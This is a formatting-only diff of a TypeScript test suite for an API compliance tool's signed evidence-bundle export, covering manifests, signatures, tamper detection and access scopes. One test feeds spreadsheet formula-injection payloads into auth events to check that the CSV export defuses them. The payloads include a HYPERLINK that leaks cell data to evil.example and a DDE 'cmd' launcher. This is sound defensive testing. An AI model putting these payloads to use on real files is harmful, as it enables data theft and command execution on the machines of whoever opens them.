@@ -30,7 +30,9 @@ function rezip(files: Map<string, Buffer>, file: string): Promise<void> {
   const zip = new ZipFile();
   for (const [name, bytes] of files) zip.addBuffer(bytes, name);
   zip.end();
-  return new Promise((resolve, reject) => zip.outputStream.pipe(fs.createWriteStream(file)).on("finish", resolve).on("error", reject));
+  return new Promise((resolve, reject) =>
+    zip.outputStream.pipe(fs.createWriteStream(file)).on("finish", resolve).on("error", reject),
+  );
 }
 
 const csvRows = (bytes: Buffer) => parse(bytes, { columns: true }) as Record<string, string>[];
@@ -65,14 +67,46 @@ for (const provider of ["sqlite", "postgres"] as const) {
       await openCampaign({ actor: admin }, { quarter, extraApiIds: [] });
       const api = await db.api.findFirstOrThrow({ where: { deletedAt: null }, orderBy: { name: "asc" } });
       // 15 failures from one client within five minutes: over the default threshold, so an alert is raised.
-      const events = Array.from({ length: 30 }, (_, i) => ({ time: new Date(now.getTime() - 60_000 - i * 10_000).toISOString(), api: api.id, clientId: "ledger-sync", outcome: i % 2 ? "success" : "authn_failure", sourceIp: "10.0.0.9", method: "GET", route: "/v1/things" }));
+      const events = Array.from({ length: 30 }, (_, i) => ({
+        time: new Date(now.getTime() - 60_000 - i * 10_000).toISOString(),
+        api: api.id,
+        clientId: "ledger-sync",
+        outcome: i % 2 ? "success" : "authn_failure",
+        sourceIp: "10.0.0.9",
+        method: "GET",
+        route: "/v1/things",
+      }));
       sentAt = [Date.now()];
       await ingestAuthEvents({ actor: admin }, events);
       sentAt.push(Date.now());
       const minute = (ago: number) => new Date(now.getTime() - ago * 60_000).toISOString().slice(0, 16);
-      await reportIncident({ actor: owner }, { title: "Leaked key used from an unknown address", type: "CREDENTIAL_COMPROMISE", severity: "HIGH", detectedAt: minute(30), reportedAt: minute(20), reportedBy: "SOC analyst", description: "The key was used from outside the network.", apiIds: [api.id], affectedClients: "ledger-sync", rootCause: "", lessonsLearned: "" });
+      await reportIncident(
+        { actor: owner },
+        {
+          title: "Leaked key used from an unknown address",
+          type: "CREDENTIAL_COMPROMISE",
+          severity: "HIGH",
+          detectedAt: minute(30),
+          reportedAt: minute(20),
+          reportedBy: "SOC analyst",
+          description: "The key was used from outside the network.",
+          apiIds: [api.id],
+          affectedClients: "ledger-sync",
+          rootCause: "",
+          lessonsLearned: "",
+        },
+      );
       const manager = await actorOf("manager@example.com");
-      await startChecklist({ actor: owner }, { vendor: "Acme", product: "Gateway Pro", description: "API gateway.", requestedOn: now.toISOString().slice(0, 10), reviewerId: manager.id! });
+      await startChecklist(
+        { actor: owner },
+        {
+          vendor: "Acme",
+          product: "Gateway Pro",
+          description: "API gateway.",
+          requestedOn: now.toISOString().slice(0, 10),
+          reviewerId: manager.id!,
+        },
+      );
     });
     afterAll(async () => {
       delete process.env.APILEDGER_DATA_DIR;
@@ -88,12 +122,16 @@ for (const provider of ["sqlite", "postgres"] as const) {
       const apis = await db.api.findMany({ where: { createdAt: { lt: to }, deletedAt: null }, select: { id: true } });
       expect(inventory.map((r) => r.id).sort()).toEqual(apis.map((a) => a.id).sort());
       expect(jsonRows(files.get("data/inventory.json")!).map((r) => r.id)).toEqual(inventory.map((r) => r.id));
-      expect(csvRows(files.get("data/clients.csv")!)).toHaveLength(await db.apiClient.count({ where: { api: { deletedAt: null } } }));
+      expect(csvRows(files.get("data/clients.csv")!)).toHaveLength(
+        await db.apiClient.count({ where: { api: { deletedAt: null } } }),
+      );
       expect(csvRows(files.get("data/control-evaluations.csv")!)).toHaveLength(apis.length * 6);
       expect(csvRows(files.get("data/access-reviews.csv")!)).toHaveLength(await db.review.count());
       const events = csvRows(files.get("data/auth-events.csv")!);
       const stored = await db.authEvent.findMany({ orderBy: { id: "asc" } });
-      expect(events.map((r) => [r.eventId, r.at, r.apiId, r.outcome, r.sourceIp])).toEqual(stored.map((e) => [e.id, e.at.toISOString(), e.apiId, e.outcome, e.sourceIp]));
+      expect(events.map((r) => [r.eventId, r.at, r.apiId, r.outcome, r.sourceIp])).toEqual(
+        stored.map((e) => [e.id, e.at.toISOString(), e.apiId, e.outcome, e.sourceIp]),
+      );
       expect(jsonRows(files.get("data/auth-events.json")!)).toEqual(events.map((r) => ({ ...r })));
       // One batch: every event carries the time it was received, taken while the ingest call ran.
       const received = new Set(events.map((r) => r.receivedAt));
@@ -102,33 +140,64 @@ for (const provider of ["sqlite", "postgres"] as const) {
       expect(receivedAt).toBeGreaterThanOrEqual(sentAt[0]!);
       expect(receivedAt).toBeLessThanOrEqual(sentAt[1]!);
       const audit = csvRows(files.get("data/audit-log.csv")!);
-      const entries = await db.auditEntry.findMany({ where: { at: { gte: from, lt: to }, action: { notIn: ["evidence.export", "audit.checkpoint"] } }, orderBy: { seq: "asc" } });
+      const entries = await db.auditEntry.findMany({
+        where: { at: { gte: from, lt: to }, action: { notIn: ["evidence.export", "audit.checkpoint"] } },
+        orderBy: { seq: "asc" },
+      });
       expect(audit.map((r) => r.hash)).toEqual(entries.map((e) => e.hash));
-      expect(csvRows(files.get("data/incidents.csv")!).map((r) => r.title)).toEqual(["Leaked key used from an unknown address"]);
+      expect(csvRows(files.get("data/incidents.csv")!).map((r) => r.title)).toEqual([
+        "Leaked key used from an unknown address",
+      ]);
       expect(csvRows(files.get("data/incident-timeline.csv")!)).toHaveLength(await db.incidentEntry.count());
-      expect(csvRows(files.get("data/auth-alerts.csv")!).map((r) => [r.keyKind, r.keyValue])).toEqual((await db.authAlert.findMany({ orderBy: [{ raisedAt: "asc" }, { id: "asc" }] })).map((a) => [a.keyKind, a.keyValue]));
+      expect(csvRows(files.get("data/auth-alerts.csv")!).map((r) => [r.keyKind, r.keyValue])).toEqual(
+        (await db.authAlert.findMany({ orderBy: [{ raisedAt: "asc" }, { id: "asc" }] })).map((a) => [
+          a.keyKind,
+          a.keyValue,
+        ]),
+      );
       expect(csvRows(files.get("data/auth-alerts.csv")!).length).toBeGreaterThan(0);
-      expect(csvRows(files.get("data/training.csv")!)).toHaveLength(await db.trainingAttendance.count({ where: { session: { heldOn: { gte: from, lt: to } } } }));
+      expect(csvRows(files.get("data/training.csv")!)).toHaveLength(
+        await db.trainingAttendance.count({ where: { session: { heldOn: { gte: from, lt: to } } } }),
+      );
       const answers = csvRows(files.get("data/acquisitions.csv")!);
-      expect(answers.map((r) => r.question)).toEqual((await db.acquisitionAnswer.findMany({ orderBy: { position: "asc" } })).map((a) => a.questionText));
+      expect(answers.map((r) => r.question)).toEqual(
+        (await db.acquisitionAnswer.findMany({ orderBy: { position: "asc" } })).map((a) => a.questionText),
+      );
       // Approved policy files are in the bundle, byte for byte.
       const documents = csvRows(files.get("data/documents.csv")!);
       expect(documents.length).toBeGreaterThan(0);
       for (const d of documents) {
         expect(files.has(d.file!), d.file).toBe(true);
-        if (d.sha256) expect(files.get(d.file!)!.length).toBe((await db.storedFile.findUniqueOrThrow({ where: { sha256: d.sha256 } })).size);
+        if (d.sha256)
+          expect(files.get(d.file!)!.length).toBe(
+            (await db.storedFile.findUniqueOrThrow({ where: { sha256: d.sha256 } })).size,
+          );
       }
       const manifest = JSON.parse(files.get("manifest.json")!.toString("utf8"));
-      expect(manifest).toMatchObject({ format: "apiledger-evidence-bundle/1", exportedBy: "auditor@example.com", scope: { period: year, controls: expect.arrayContaining(["ism-2013"]) } });
+      expect(manifest).toMatchObject({
+        format: "apiledger-evidence-bundle/1",
+        exportedBy: "auditor@example.com",
+        scope: { period: year, controls: expect.arrayContaining(["ism-2013"]) },
+      });
       expect(manifest.auditLog.lastEntryHash).toBe(entries.at(-1)!.hash);
       const oscal = JSON.parse(files.get("oscal/assessment-results.json")!.toString("utf8"));
       expect(oscal["assessment-results"].metadata["oscal-version"]).toBe("1.1.2");
-      expect(oscal["assessment-results"].results[0].findings.map((f: { target: { "target-id": string } }) => f.target["target-id"])).toContain("ism-2013_smt");
-      expect(JSON.parse(files.get("oscal/poam.json")!.toString("utf8"))["plan-of-action-and-milestones"]["poam-items"].length).toBeGreaterThan(0);
+      expect(
+        oscal["assessment-results"].results[0].findings.map(
+          (f: { target: { "target-id": string } }) => f.target["target-id"],
+        ),
+      ).toContain("ism-2013_smt");
+      expect(
+        JSON.parse(files.get("oscal/poam.json")!.toString("utf8"))["plan-of-action-and-milestones"]["poam-items"]
+          .length,
+      ).toBeGreaterThan(0);
       expect(files.get("report.pdf")!.subarray(0, 5).toString()).toBe("%PDF-");
       expect(files.get("index.html")!.toString()).not.toMatch(/<script|https?:\/\/|src=/i);
       // The export is on record: who, and the manifest's hash.
-      const custody = await db.auditEntry.findFirstOrThrow({ where: { action: "evidence.export" }, orderBy: { seq: "desc" } });
+      const custody = await db.auditEntry.findFirstOrThrow({
+        where: { action: "evidence.export" },
+        orderBy: { seq: "desc" },
+      });
       expect([custody.actorEmail, custody.targetId]).toEqual(["auditor@example.com", result.manifestSha256]);
       expect(await verifyBundle(file)).toMatchObject({ ok: true, problems: [] });
     });
@@ -140,13 +209,50 @@ for (const provider of ["sqlite", "postgres"] as const) {
         fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
         fs.writeFileSync(path.join(folder, name), bytes);
       }
-      const verifySig = (name: string) => run("openssl", ["pkeyutl", "-verify", "-pubin", "-inkey", "public-key.pem", "-rawin", "-in", name, "-sigfile", `${name}.sig`], folder);
+      const verifySig = (name: string) =>
+        run(
+          "openssl",
+          [
+            "pkeyutl",
+            "-verify",
+            "-pubin",
+            "-inkey",
+            "public-key.pem",
+            "-rawin",
+            "-in",
+            name,
+            "-sigfile",
+            `${name}.sig`,
+          ],
+          folder,
+        );
       expect(run("sha256sum", ["-c", "--quiet", "SHA256SUMS"], folder).status).toBe(0);
       expect(verifySig("SHA256SUMS").stdout).toMatch(/Signature Verified Successfully/);
       expect(verifySig("manifest.json").stdout).toMatch(/Signature Verified Successfully/);
       // The audit-log checkpoint, as VERIFY.md tells the auditor to check it.
-      expect(run("openssl", ["pkeyutl", "-verify", "-pubin", "-inkey", "public-key.pem", "-rawin", "-in", "audit-checkpoint.txt", "-sigfile", "audit-checkpoint.sig"], folder).stdout).toMatch(/Signature Verified Successfully/);
-      const fingerprint = execFileSync("sh", ["-c", "openssl pkey -pubin -in public-key.pem -outform DER | sha256sum"], { cwd: folder, encoding: "utf8" }).split(" ")[0];
+      expect(
+        run(
+          "openssl",
+          [
+            "pkeyutl",
+            "-verify",
+            "-pubin",
+            "-inkey",
+            "public-key.pem",
+            "-rawin",
+            "-in",
+            "audit-checkpoint.txt",
+            "-sigfile",
+            "audit-checkpoint.sig",
+          ],
+          folder,
+        ).stdout,
+      ).toMatch(/Signature Verified Successfully/);
+      const fingerprint = execFileSync(
+        "sh",
+        ["-c", "openssl pkey -pubin -in public-key.pem -outform DER | sha256sum"],
+        { cwd: folder, encoding: "utf8" },
+      ).split(" ")[0];
       expect(fs.readFileSync(path.join(folder, "VERIFY.md"), "utf8")).toContain(fingerprint);
 
       const flip = (name: string) => {
@@ -170,9 +276,16 @@ for (const provider of ["sqlite", "postgres"] as const) {
       const report = await verifyBundle(path.join(dir, "tampered.zip"));
       expect(report.ok).toBe(false);
       expect(report.problems.join("\n")).toMatch(/data\/inventory\.csv does not match the manifest/);
-      const manifest = Buffer.from(files.get("manifest.json")!.toString("utf8").replace('"exportedBy": "auditor@example.com"', '"exportedBy": "someone@example.com"'));
+      const manifest = Buffer.from(
+        files
+          .get("manifest.json")!
+          .toString("utf8")
+          .replace('"exportedBy": "auditor@example.com"', '"exportedBy": "someone@example.com"'),
+      );
       await rezip(new Map([...files, ["manifest.json", manifest]]), path.join(dir, "forged.zip"));
-      expect((await verifyBundle(path.join(dir, "forged.zip"))).problems.join("\n")).toMatch(/signature on manifest\.json does not verify/);
+      expect((await verifyBundle(path.join(dir, "forged.zip"))).problems.join("\n")).toMatch(
+        /signature on manifest\.json does not verify/,
+      );
     });
 
     it("exported twice with nothing changed, differs only in the fresh audit checkpoint and the manifest that signs it", async () => {
@@ -180,26 +293,49 @@ for (const provider of ["sqlite", "postgres"] as const) {
       const first = await exportTo(auditor, { period: year, controls: ["ism-2013", "ism-2015"] }, "a.zip", at);
       const second = await exportTo(auditor, { period: year, controls: ["ism-2013", "ism-2015"] }, "b.zip", at);
       // Exported later by someone else: the same.
-      const later = await exportTo(admin, { period: year, controls: ["ism-2013", "ism-2015"] }, "c.zip", new Date(at.getTime() + 3_600_000));
+      const later = await exportTo(
+        admin,
+        { period: year, controls: ["ism-2013", "ism-2015"] },
+        "c.zip",
+        new Date(at.getTime() + 3_600_000),
+      );
       const [a, b, c] = [await unzip(first.file), await unzip(second.file), await unzip(later.file)];
-      const sealing = ["audit-checkpoint.txt", "audit-checkpoint.sig", "manifest.json", "manifest.json.sig", "SHA256SUMS", "SHA256SUMS.sig"];
+      const sealing = [
+        "audit-checkpoint.txt",
+        "audit-checkpoint.sig",
+        "manifest.json",
+        "manifest.json.sig",
+        "SHA256SUMS",
+        "SHA256SUMS.sig",
+      ];
       for (const other of [b, c]) {
         expect([...a.keys()]).toEqual([...other.keys()]);
         expect([...a.keys()].filter((name) => !a.get(name)!.equals(other.get(name)!))).toEqual(sealing);
       }
       // Each checkpoint covers the log as it was sealed: the later one covers more entries.
-      const checkpoint = (files: Map<string, Buffer>) => JSON.parse(files.get("manifest.json")!.toString("utf8")).auditCheckpoint;
+      const checkpoint = (files: Map<string, Buffer>) =>
+        JSON.parse(files.get("manifest.json")!.toString("utf8")).auditCheckpoint;
       expect(checkpoint(b).seq).toBeGreaterThan(checkpoint(a).seq);
       expect(checkpoint(a).text).toBe(a.get("audit-checkpoint.txt")!.toString("utf8"));
-      const manifest = (files: Map<string, Buffer>) => ({ ...JSON.parse(files.get("manifest.json")!.toString("utf8")), auditCheckpoint: null, files: null });
+      const manifest = (files: Map<string, Buffer>) => ({
+        ...JSON.parse(files.get("manifest.json")!.toString("utf8")),
+        auditCheckpoint: null,
+        files: null,
+      });
       expect(manifest(a)).toEqual(manifest(b));
     });
 
     it("works for an auditor's API token that has only the evidence scope", async () => {
-      const token: Actor = { ...(auditor as Extract<Actor, { kind: "user" }>), token: { id: "t", scopes: ["evidence:read"], teamId: null } };
+      const token: Actor = {
+        ...(auditor as Extract<Actor, { kind: "user" }>),
+        token: { id: "t", scopes: ["evidence:read"], teamId: null },
+      };
       const { file } = await exportTo(token, { period: year }, "token.zip");
       expect((await verifyBundle(file)).ok).toBe(true);
-      const limited: Actor = { ...(admin as Extract<Actor, { kind: "user" }>), token: { id: "t", scopes: ["evidence:read"], teamId: "some-team" } };
+      const limited: Actor = {
+        ...(admin as Extract<Actor, { kind: "user" }>),
+        token: { id: "t", scopes: ["evidence:read"], teamId: "some-team" },
+      };
       await expect(exportTo(limited, { period: year }, "limited.zip")).rejects.toMatchObject({ code: "FORBIDDEN" });
     });
 
@@ -211,7 +347,9 @@ for (const provider of ["sqlite", "postgres"] as const) {
       expect(csvRows(mine.get("data/auth-events.csv")!)).toHaveLength(30);
       expect(csvRows(theirs.get("data/auth-events.csv")!)).toHaveLength(0);
       const teamApis = await db.api.count({ where: { teamId: api.teamId, deletedAt: null } });
-      expect(csvRows(mine.get("data/inventory.csv")!).map((r) => r.team)).toEqual(Array(teamApis).fill((await db.team.findUniqueOrThrow({ where: { id: api.teamId } })).name));
+      expect(csvRows(mine.get("data/inventory.csv")!).map((r) => r.team)).toEqual(
+        Array(teamApis).fill((await db.team.findUniqueOrThrow({ where: { id: api.teamId } })).name),
+      );
     });
 
     it("builds requested exports in the background, records each step, and fails the ones a restart interrupted", async () => {
@@ -224,26 +362,60 @@ for (const provider of ["sqlite", "postgres"] as const) {
       expect(job).toMatchObject({ status: "DONE", period: year, requestedBy: "auditor@example.com", error: null });
       expect(fs.statSync(bundlePath(id)).size).toBe(job.bytes);
       expect((await verifyBundle(bundlePath(id))).ok).toBe(true);
-      const trail = await db.auditEntry.findMany({ where: { action: { startsWith: "evidence." } }, orderBy: { seq: "desc" }, take: 3, select: { action: true } });
-      expect(trail.map((e) => e.action).reverse()).toEqual(["evidence.export-requested", "evidence.export", "evidence.export-stored"]);
+      const trail = await db.auditEntry.findMany({
+        where: { action: { startsWith: "evidence." } },
+        orderBy: { seq: "desc" },
+        take: 3,
+        select: { action: true },
+      });
+      expect(trail.map((e) => e.action).reverse()).toEqual([
+        "evidence.export-requested",
+        "evidence.export",
+        "evidence.export-stored",
+      ]);
       await expect(getEvidenceExport(owner, id)).rejects.toMatchObject({ code: "FORBIDDEN" });
       // A row left QUEUED by a stopped server is failed, with a reason, at the next start.
       const system = { kind: "system" as const, id: null, email: "test@apiledger" };
       const stale = await authorizedWrite({ actor: system }, { action: "evidence:export" }, async (tx, audit) => {
-        const row = await tx.evidenceExport.create({ data: { requestedBy: "auditor@example.com", scope: "{}", period: year } });
+        const row = await tx.evidenceExport.create({
+          data: { requestedBy: "auditor@example.com", scope: "{}", period: year },
+        });
         await audit({ action: "evidence.export-requested", targetType: "evidence-export", targetId: row.id });
         return row;
       });
       expect(await failJobsLeftByRestart()).toBe(1);
-      expect(await getEvidenceExport(auditor, stale.id)).toMatchObject({ status: "FAILED", error: expect.stringMatching(/server stopped before the export finished/) });
-      await expect(requestEvidenceExport({ actor: owner }, { period: year })).rejects.toMatchObject({ code: "FORBIDDEN" });
+      expect(await getEvidenceExport(auditor, stale.id)).toMatchObject({
+        status: "FAILED",
+        error: expect.stringMatching(/server stopped before the export finished/),
+      });
+      await expect(requestEvidenceExport({ actor: owner }, { period: year })).rejects.toMatchObject({
+        code: "FORBIDDEN",
+      });
     });
 
     it("defuses formulas that a gateway put in event fields in auth-events.csv, and the JSON twin keeps the original", async () => {
       const api = await db.api.findFirstOrThrow({ where: { deletedAt: null }, orderBy: { name: "asc" } });
-      const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=cmd|' /C calc'!A0"];
+      const hostile = [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=cmd|' /C calc'!A0",
+      ];
       const at = new Date(now.getTime() - 30_000).toISOString();
-      await ingestAuthEvents({ actor: admin }, hostile.map((h) => ({ time: at, api: api.id, clientId: h, principal: h, outcome: "success", method: "GET", route: h })));
+      await ingestAuthEvents(
+        { actor: admin },
+        hostile.map((h) => ({
+          time: at,
+          api: api.id,
+          clientId: h,
+          principal: h,
+          outcome: "success",
+          method: "GET",
+          route: h,
+        })),
+      );
       const files = await unzip((await exportTo(auditor, { period: year, apiIds: [api.id] }, "formulas.zip")).file);
       const csv = csvRows(files.get("data/auth-events.csv")!).filter((r) => r.clientId !== "ledger-sync");
       const json = jsonRows(files.get("data/auth-events.json")!).filter((r) => r.clientId !== "ledger-sync");
@@ -264,9 +436,17 @@ for (const provider of ["sqlite", "postgres"] as const) {
 
     it("refuses bad scopes and system owners, writing nothing", async () => {
       const before = await db.auditEntry.count();
-      await expect(exportTo(auditor, { period: "2026-12-31..2026-10-01" }, "bad.zip")).rejects.toMatchObject({ code: "VALIDATION", fieldErrors: { period: [expect.stringMatching(/ends .* before it starts/)] } });
-      await expect(exportTo(auditor, { period: year, controls: ["ism-9999"] }, "bad.zip")).rejects.toMatchObject({ code: "VALIDATION", fieldErrors: { controls: [expect.stringMatching(/Unknown control: ism-9999/)] } });
-      await expect(exportTo(auditor, { period: year, teamIds: ["no-such-team"] }, "bad.zip")).rejects.toMatchObject({ code: "VALIDATION" });
+      await expect(exportTo(auditor, { period: "2026-12-31..2026-10-01" }, "bad.zip")).rejects.toMatchObject({
+        code: "VALIDATION",
+        fieldErrors: { period: [expect.stringMatching(/ends .* before it starts/)] },
+      });
+      await expect(exportTo(auditor, { period: year, controls: ["ism-9999"] }, "bad.zip")).rejects.toMatchObject({
+        code: "VALIDATION",
+        fieldErrors: { controls: [expect.stringMatching(/Unknown control: ism-9999/)] },
+      });
+      await expect(exportTo(auditor, { period: year, teamIds: ["no-such-team"] }, "bad.zip")).rejects.toMatchObject({
+        code: "VALIDATION",
+      });
       await expect(exportTo(owner, { period: year }, "owner.zip")).rejects.toMatchObject({ code: "FORBIDDEN" });
       expect(await db.auditEntry.count()).toBe(before);
     });
